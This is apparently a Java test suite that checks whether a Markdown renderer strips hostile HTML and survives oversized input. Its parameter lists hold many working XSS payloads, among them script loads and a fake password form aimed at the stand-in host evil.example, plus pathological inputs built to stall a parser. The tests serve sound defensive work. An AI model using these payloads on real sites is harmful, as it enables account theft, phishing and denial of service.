package com.foobar.webapp.article;

import java.time.Duration;
import java.util.Locale;
import java.util.Set;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/** What becomes of an author's Markdown. */
class MarkdownTests {

	private static final Set<String> ALLOWED_ATTRIBUTES = Set.of("href", "title", "rel", "src", "alt", "loading",
			"referrerpolicy", "start", "align", "tabindex");

	static final String[] HOSTILE_SIZES = { ">".repeat(100_000), "> ".repeat(50_000) + "x", "- ".repeat(50_000) + "x",
			"*a ".repeat(33_000), "**a *b ".repeat(14_000), "[".repeat(100_000), "![".repeat(50_000),
			"[a](".repeat(25_000), "`a``b```".repeat(12_000), "<".repeat(100_000), "<a ".repeat(33_000),
			"<b>".repeat(33_000), "<div><blockquote>".repeat(5_800), "&".repeat(100_000), "_".repeat(100_000),
			"|a".repeat(2_000) + "|\n" + "|-".repeat(2_000) + "|\n" + "x\n".repeat(45_000),
			"|a|\n|-|\n" + "|x".repeat(49_000), "[a]: <x> 'y\n".repeat(8_000), "\n".repeat(100_000),
			"1. a\n ".repeat(16_000), "<!--".repeat(25_000), "<?".repeat(50_000), "<![CDATA[".repeat(11_000),
			"# ".repeat(50_000), "\\".repeat(100_000) };

	private final Markdown markdown = new Markdown();

	@ParameterizedTest
	@ValueSource(strings = { "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
			"<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">",
			"<img/src=`x`/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<iframe src=https://evil.example>",
			"<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x></object><embed src=x>",
			"<form action=https://evil.example><input name=password><button>Sign in</button></form>",
			"<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
			"<link rel=stylesheet href=https://evil.example>", "<style>*{display:none}</style>",
			"<p style=\"position:fixed\">x</p>", "<p class=\"error-messages\" id=content>x</p>",
			"<a href=\"javascript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
			"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
			"<a href=\"vbscript:x\">x</a>", "<a href=https://x.example onclick=alert(1) target=_blank>x</a>",
			"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))",
			"[x](java\nscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:alert(1))",
			"![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
			"[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>",
			"[x](https://a.example \"\\\" onclick=\\\"alert(1)\")",
			"![x\" onerror=\"alert(1)](https://a.example/x.png)", "```\"><script>alert(1)</script>\nx\n```",
			"`<script>alert(1)</script>`", "<details open ontoggle=alert(1)>x</details>",
			"<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
			"<template><script>alert(1)</script></template>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
			"<![CDATA[<img src=x onerror=alert(1)>]]>", "<x/onclick=alert(1)>x",
			"</div></main><script>alert(1)</script>", "<textarea><script>alert(1)</script></textarea>",
			"<a href='//evil.example' rel='opener'>x</a>", "<table background=javascript:alert(1)><td>x" })
	void letsNothingHarmfulThrough(String hostile) {
		Document html = Jsoup.parseBodyFragment(this.markdown.toHtml(hostile));

		assertThat(html.body()
			.select("script, style, iframe, object, embed, form, input, button, textarea, svg, math, link, meta, base, "
					+ "template, noscript, video, audio, h1"))
			.isEmpty();
		for (Element element : html.body().select("*")) {
			for (Attribute attribute : element.attributes()) {
				assertThat(ALLOWED_ATTRIBUTES).contains(attribute.getKey());
			}
			String address = (element.attr("href") + element.attr("src")).toLowerCase(Locale.ROOT);
			assertThat(address).matches("(https?:|mailto:|/|[^:]*$).*");
		}
	}

	@ParameterizedTest
	@FieldSource("HOSTILE_SIZES")
	void staysQuickAndUprightOnTheLargestTexts(String hostile) {
		String text = hostile.substring(0, Math.min(hostile.length(), 100_000));

		assertTimeoutPreemptively(Duration.ofSeconds(10), () -> assertThat(this.markdown.toHtml(text)).isNotNull());
	}

	@Test
	void marksLinksOfStrangers() {
		assertThat(this.markdown.toHtml("[x](https://example.org)")).contains("rel=\"nofollow noopener ugc\"");
	}

	@Test
	void letsTheKeyboardReachLongLinesOfCode() {
		assertThat(this.markdown.toHtml("```\ncode\n```\n\n<pre tabindex=\"5\">raw</pre>"))
			.contains("<pre tabindex=\"0\"><code>code", "<pre tabindex=\"0\">raw");
		assertThat(this.markdown.toHtml("| a |\n|---|\n| 1 |")).contains("<table tabindex=\"0\">");
	}

	@Test
	void keepsThePagesOnlyFirstHeading() {
		assertThat(this.markdown.toHtml("# One\n\n###### Six\n\n<h1>Raw</h1>"))
			.contains("<h2>One</h2>", "<h6>Six</h6>", "<h2>Raw</h2>")
			.doesNotContain("<h1");
	}

	@Test
	void rendersTables() {
		assertThat(this.markdown.toHtml("|a|b|\n|-|-:|\n|1|2|")).contains("<th>a</th>", "<td align=\"right\">2</td>");
	}

	@Test
	void showsATableTooLargeToDrawAsText() {
		String table = "|a".repeat(500) + "|\n" + "|-".repeat(500) + "|\n" + "x\n".repeat(500);

		assertThat(this.markdown.toHtml(table)).doesNotContain("<table").contains("x");
	}

	@Test
	void showsPicturesLazilyAndTellsTheirServersNothing() {
		Element picture = Jsoup.parseBodyFragment(this.markdown.toHtml("![a cat](https://example.org/cat.png)"))
			.expectFirst("img");

		assertThat(picture.attr("src")).isEqualTo("https://example.org/cat.png");
		assertThat(picture.attr("alt")).isEqualTo("a cat");
		assertThat(picture.attr("loading")).isEqualTo("lazy");
		assertThat(picture.attr("referrerpolicy")).isEqualTo("no-referrer");
	}

	@Test
	void keepsTextAsWritten() {
		assertThat(Jsoup.parseBodyFragment(this.markdown.toHtml("5 < 6 & 🐎 `<b>` \"quoted\"")).text())
			.isEqualTo("5 < 6 & 🐎 <b> \"quoted\"");
	}

}
